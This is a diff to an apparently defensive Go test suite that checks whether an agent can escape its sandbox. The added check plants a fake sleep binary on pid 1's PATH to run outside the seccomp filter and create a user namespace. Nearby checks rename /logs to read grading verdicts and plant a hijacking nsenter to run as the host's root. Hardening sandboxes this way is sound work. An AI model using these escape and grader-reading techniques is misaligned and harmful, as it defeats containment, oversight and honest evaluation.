@@ -266,7 +266,20 @@ printf 'GET / HTTP/1.0\r\n\r\n' >&3; timeout 5 cat <&3`
 	report(agent, "rename /logs before grading: read the verdict files", !strings.Contains(out2, secret), out2)
 	sh(`rm -rf /logs && mv /logs.agent /logs; true`)
 
-	// 5. A program of the agent's on the daemon's PATH, ahead of the real
+	// 5. pid 1 of the sandbox (the holder's shell) starts sleep(1) from its
+	// PATH in the shared filesystem whenever its sleep ends: a sleep of the
+	// agent's, early on that PATH, runs as pid 1's child, outside the
+	// seccomp filter that keeps sessions from making user namespaces.
+	plant := `#!/bin/sh
+[ "$PPID" = 1 ] && { echo "pid $$, parent $PPID"; grep -E "^(Cap(Prm|Bnd)|Seccomp|NoNewPrivs)" /proc/self/status; unshare -U sh -c "echo NESTED-USERNS: \$(readlink /proc/self/ns/user), uid \$(id -u)"; } > /var/tmp/pid1-child-` + agent + ` 2>&1
+exec /bin/sleep "$@"
+`
+	out, _ = sh(`printf '%s' ` + shq(plant) + ` > /usr/local/sbin/sleep && chmod 755 /usr/local/sbin/sleep && echo planted; ` +
+		`for p in /proc/[0-9]*; do [ "$(awk '/^PPid/ {print $2}' $p/status 2>/dev/null)" = 1 ] && [ "$(cat $p/comm 2>/dev/null)" = sleep ] && kill -9 ${p#/proc/}; done; timeout 3 tail -f /dev/null; cat /var/tmp/pid1-child-` + agent + ` 2>&1`)
+	report(agent, "get a process started by pid 1 (a planted sleep) and make a user namespace from it", !strings.Contains(out, "NESTED-USERNS"), out)
+	os.Remove("/usr/local/sbin/sleep")
+
+	// 6. A program of the agent's on the daemon's PATH, ahead of the real
 	// nsenter: the next session, grading or ssh -L runs it as the
 	// substrate's root, outside every namespace.
 	evil := `#!/bin/sh
